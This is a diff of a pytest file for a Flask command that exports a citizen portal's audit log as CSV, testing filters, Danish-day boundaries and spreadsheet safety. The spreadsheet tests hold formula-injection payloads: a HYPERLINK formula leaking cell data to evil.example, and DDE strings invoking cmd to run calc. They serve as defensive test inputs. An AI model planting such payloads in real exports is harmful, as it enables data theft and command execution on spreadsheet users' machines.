@@ -1,11 +1,12 @@
 """`flask audit export`: the full audit log as CSV for an auditor, filtered by citizen and by Danish days,
 naming the staff, and safe to open in a spreadsheet."""
+
 from __future__ import annotations
 
 import csv
 import io
 import json
-from datetime import date, datetime, timezone
+from datetime import UTC, date, datetime
 
 import pytest
 from sqlalchemy import select
@@ -16,9 +17,11 @@ from portal.audit_export import write_csv
 from portal.auth.models import User
 from tests.factories import log_in, post_form
 
-HEADER = ("id,occurred_at_utc,actor_id,actor_email,actor_name,actor_role,action,citizen_id,citizen_email,"
-          "purpose,detail,request_id")
-UTC = timezone.utc
+HEADER = (
+    "id,occurred_at_utc,actor_id,actor_email,actor_name,actor_role,action,citizen_id,citizen_email,"
+    "purpose,detail,request_id"
+)
+UTC = UTC
 
 
 def export(app, *args):
@@ -32,8 +35,9 @@ def parse(text: str) -> list[dict[str, str]]:
 
 def add(session, action, *, actor=None, citizen=None, purpose=None, at=None, **detail) -> AuditEntry:
     """An audit row written with the real `audit.record`, optionally at a chosen time."""
-    entry = audit.record(session, action, actor=actor, citizen_id=citizen.id if citizen else None,
-                         purpose=purpose, **detail)
+    entry = audit.record(
+        session, action, actor=actor, citizen_id=citizen.id if citizen else None, purpose=purpose, **detail
+    )
     if at is not None:
         entry.occurred_at = at
     session.commit()
@@ -55,8 +59,14 @@ def people(make_caseworker, make_citizen):
 def test_export_names_the_employee_and_the_citizen(app, session, people):
     # test that a row carries the header, the staff member's e-mail, name and role, and the citizen's e-mail
     caseworker, anna, _bo = people
-    entry = add(session, "caseworker.citizen.viewed", actor=caseworker, citizen=anna,
-                purpose="Sagsbehandling af din plan", section="plan")
+    entry = add(
+        session,
+        "caseworker.citizen.viewed",
+        actor=caseworker,
+        citizen=anna,
+        purpose="Sagsbehandling af din plan",
+        section="plan",
+    )
     result = export(app, "--citizen", "anna@example.test")
     assert result.exit_code == 0, result.output
     assert result.stdout.splitlines()[0] == HEADER
@@ -64,10 +74,16 @@ def test_export_names_the_employee_and_the_citizen(app, session, people):
     assert row == {
         "id": str(entry.id),
         "occurred_at_utc": entry.occurred_at.astimezone(UTC).isoformat(),
-        "actor_id": str(caseworker.id), "actor_email": "sofie@example.test", "actor_name": "Sofie Sagsbehandler",
-        "actor_role": "caseworker", "action": "caseworker.citizen.viewed",
-        "citizen_id": str(anna.id), "citizen_email": "anna@example.test",
-        "purpose": "Sagsbehandling af din plan", "detail": '{"section": "plan"}', "request_id": "",
+        "actor_id": str(caseworker.id),
+        "actor_email": "sofie@example.test",
+        "actor_name": "Sofie Sagsbehandler",
+        "actor_role": "caseworker",
+        "action": "caseworker.citizen.viewed",
+        "citizen_id": str(anna.id),
+        "citizen_email": "anna@example.test",
+        "purpose": "Sagsbehandling af din plan",
+        "detail": '{"section": "plan"}',
+        "request_id": "",
     }
     assert row["occurred_at_utc"].endswith("+00:00")
     assert "Exported 1 audit row(s)." in result.stderr
@@ -90,8 +106,10 @@ def test_rows_written_by_a_real_request_carry_the_request_id(app, client, sessio
 def test_citizen_filter_gives_only_that_citizens_rows(app, session, people):
     """--citizen (any case) exports the rows about that citizen and nothing about anyone else."""
     caseworker, anna, bo = people
-    about_anna = [add(session, "caseworker.citizen.viewed", actor=caseworker, citizen=anna, purpose="Sagsbehandling"),
-                  add(session, "plan.viewed", actor=anna, citizen=anna, purpose="Din plan")]
+    about_anna = [
+        add(session, "caseworker.citizen.viewed", actor=caseworker, citizen=anna, purpose="Sagsbehandling"),
+        add(session, "plan.viewed", actor=anna, citizen=anna, purpose="Din plan"),
+    ]
     add(session, "caseworker.citizen.viewed", actor=caseworker, citizen=bo, purpose="Sagsbehandling")
     add(session, "login.failed", reason="unknown_account")
     add(session, "caseworker.caseload.viewed", actor=caseworker, purpose="Sagsbehandling", citizens=2)
@@ -107,39 +125,62 @@ def test_citizen_filter_gives_only_that_citizens_rows(app, session, people):
 def test_without_filters_every_row_is_exported_in_id_order(app, session, people):
     # test that the plain export holds all rows, oldest id first, including rows without actor or citizen
     caseworker, anna, bo = people
-    made = [add(session, "caseworker.citizen.viewed", actor=caseworker, citizen=bo),
-            add(session, "login.failed", reason="unknown_account"),
-            add(session, "plan.viewed", actor=anna, citizen=anna)]
+    made = [
+        add(session, "caseworker.citizen.viewed", actor=caseworker, citizen=bo),
+        add(session, "login.failed", reason="unknown_account"),
+        add(session, "plan.viewed", actor=anna, citizen=anna),
+    ]
     rows = parse(export(app).stdout)
     all_ids = list(session.scalars(select(AuditEntry.id).order_by(AuditEntry.id)))
     assert ids(rows) == all_ids
     assert [entry.id for entry in made] == [i for i in ids(rows) if i in {e.id for e in made}]
     anonymous = next(row for row in rows if int(row["id"]) == made[1].id)
-    assert (anonymous["actor_id"], anonymous["actor_email"], anonymous["actor_name"], anonymous["actor_role"],
-            anonymous["citizen_id"], anonymous["citizen_email"]) == ("", "", "", "", "", "")
+    assert (
+        anonymous["actor_id"],
+        anonymous["actor_email"],
+        anonymous["actor_name"],
+        anonymous["actor_role"],
+        anonymous["citizen_id"],
+        anonymous["citizen_email"],
+    ) == ("", "", "", "", "", "")
 
 
 # --- period: whole days in Danish time ------------------------------------------------------------
 
-@pytest.mark.parametrize("day, inside, outside", [
-    # Winter (CET, UTC+1): 2 March runs from 1 March 23:00 UTC to 2 March 23:00 UTC.
-    ("2026-03-02",
-     [datetime(2026, 3, 1, 23, 0, tzinfo=UTC), datetime(2026, 3, 1, 23, 30, tzinfo=UTC),
-      datetime(2026, 3, 2, 22, 59, 59, tzinfo=UTC)],
-     [datetime(2026, 3, 1, 22, 59, 59, tzinfo=UTC), datetime(2026, 3, 2, 23, 0, tzinfo=UTC)]),
-    # Summer (CEST, UTC+2): 2 July runs from 1 July 22:00 UTC to 2 July 22:00 UTC.
-    ("2026-07-02",
-     [datetime(2026, 7, 1, 22, 0, tzinfo=UTC), datetime(2026, 7, 2, 21, 59, tzinfo=UTC)],
-     [datetime(2026, 7, 1, 21, 59, tzinfo=UTC), datetime(2026, 7, 2, 22, 0, tzinfo=UTC)]),
-    # 29 March 2026 has 23 hours (clocks go forward): 28 March 23:00 UTC to 29 March 22:00 UTC.
-    ("2026-03-29",
-     [datetime(2026, 3, 28, 23, 0, tzinfo=UTC), datetime(2026, 3, 29, 21, 59, tzinfo=UTC)],
-     [datetime(2026, 3, 28, 22, 59, tzinfo=UTC), datetime(2026, 3, 29, 22, 0, tzinfo=UTC)]),
-    # 25 October 2026 has 25 hours (clocks go back): 24 October 22:00 UTC to 25 October 23:00 UTC.
-    ("2026-10-25",
-     [datetime(2026, 10, 24, 22, 0, tzinfo=UTC), datetime(2026, 10, 25, 22, 59, tzinfo=UTC)],
-     [datetime(2026, 10, 24, 21, 59, tzinfo=UTC), datetime(2026, 10, 25, 23, 0, tzinfo=UTC)]),
-])
+
+@pytest.mark.parametrize(
+    "day, inside, outside",
+    [
+        # Winter (CET, UTC+1): 2 March runs from 1 March 23:00 UTC to 2 March 23:00 UTC.
+        (
+            "2026-03-02",
+            [
+                datetime(2026, 3, 1, 23, 0, tzinfo=UTC),
+                datetime(2026, 3, 1, 23, 30, tzinfo=UTC),
+                datetime(2026, 3, 2, 22, 59, 59, tzinfo=UTC),
+            ],
+            [datetime(2026, 3, 1, 22, 59, 59, tzinfo=UTC), datetime(2026, 3, 2, 23, 0, tzinfo=UTC)],
+        ),
+        # Summer (CEST, UTC+2): 2 July runs from 1 July 22:00 UTC to 2 July 22:00 UTC.
+        (
+            "2026-07-02",
+            [datetime(2026, 7, 1, 22, 0, tzinfo=UTC), datetime(2026, 7, 2, 21, 59, tzinfo=UTC)],
+            [datetime(2026, 7, 1, 21, 59, tzinfo=UTC), datetime(2026, 7, 2, 22, 0, tzinfo=UTC)],
+        ),
+        # 29 March 2026 has 23 hours (clocks go forward): 28 March 23:00 UTC to 29 March 22:00 UTC.
+        (
+            "2026-03-29",
+            [datetime(2026, 3, 28, 23, 0, tzinfo=UTC), datetime(2026, 3, 29, 21, 59, tzinfo=UTC)],
+            [datetime(2026, 3, 28, 22, 59, tzinfo=UTC), datetime(2026, 3, 29, 22, 0, tzinfo=UTC)],
+        ),
+        # 25 October 2026 has 25 hours (clocks go back): 24 October 22:00 UTC to 25 October 23:00 UTC.
+        (
+            "2026-10-25",
+            [datetime(2026, 10, 24, 22, 0, tzinfo=UTC), datetime(2026, 10, 25, 22, 59, tzinfo=UTC)],
+            [datetime(2026, 10, 24, 21, 59, tzinfo=UTC), datetime(2026, 10, 25, 23, 0, tzinfo=UTC)],
+        ),
+    ],
+)
 def test_from_and_to_are_whole_danish_days(app, session, people, day, inside, outside):
     # test that --from D --to D exports exactly what happened on day D on a Copenhagen clock
     caseworker, anna, _bo = people
@@ -155,8 +196,7 @@ def test_from_and_to_are_whole_danish_days(app, session, people, day, inside, ou
 def test_late_evening_utc_belongs_to_the_next_danish_day(app, session, people):
     """An entry at 23:30 UTC on 1 March 2026 is 00:30 on 2 March in Denmark."""
     caseworker, anna, _bo = people
-    entry = add(session, "plan.viewed", actor=caseworker, citizen=anna,
-                at=datetime(2026, 3, 1, 23, 30, tzinfo=UTC))
+    entry = add(session, "plan.viewed", actor=caseworker, citizen=anna, at=datetime(2026, 3, 1, 23, 30, tzinfo=UTC))
     first = parse(export(app, "--from", "2026-03-01", "--to", "2026-03-01").stdout)
     second = parse(export(app, "--from", "2026-03-02", "--to", "2026-03-02").stdout)
     assert entry.id not in ids(first)
@@ -195,13 +235,17 @@ def test_a_period_without_rows_gives_only_the_header(app, session, people):
 
 # --- spreadsheet safety ---------------------------------------------------------------------------
 
-@pytest.mark.parametrize("purpose", [
-    '=HYPERLINK("https://evil.example/?leak="&A1,"Klik her")',
-    "+1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-])
+
+@pytest.mark.parametrize(
+    "purpose",
+    [
+        '=HYPERLINK("https://evil.example/?leak="&A1,"Klik her")',
+        "+1+1",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+    ],
+)
 def test_formula_in_purpose_is_neutralised(app, session, people, purpose):
     # test that a purpose a spreadsheet would run as a formula is exported with a leading apostrophe
     caseworker, anna, _bo = people
@@ -234,8 +278,12 @@ def test_formula_in_citizen_email_is_neutralised(app, client, session, make_case
     caseworker = make_caseworker()
     log_in(client, caseworker.email)
     email = "=1+2|cmd@example.dk"
-    added = post_form(client, "/caseworker/invitations/new", {"name": "Formel Borger", "email": email},
-                      page_url="/caseworker/invitations/new")
+    added = post_form(
+        client,
+        "/caseworker/invitations/new",
+        {"name": "Formel Borger", "email": email},
+        page_url="/caseworker/invitations/new",
+    )
     assert added.status_code == 200 and "Giv borgeren linket" in added.get_data(as_text=True)
     assert session.scalar(select(User).where(User.email == email)) is not None
     rows = parse(export(app, "--citizen", email).stdout)
@@ -246,6 +294,7 @@ def test_formula_in_citizen_email_is_neutralised(app, client, session, make_case
 
 
 # --- output file and errors ---------------------------------------------------------------------
+
 
 def test_output_file_holds_the_csv(app, session, people, tmp_path):
     # test that --output writes the CSV (UTF-8, CRLF) to the file and nothing of it to stdout
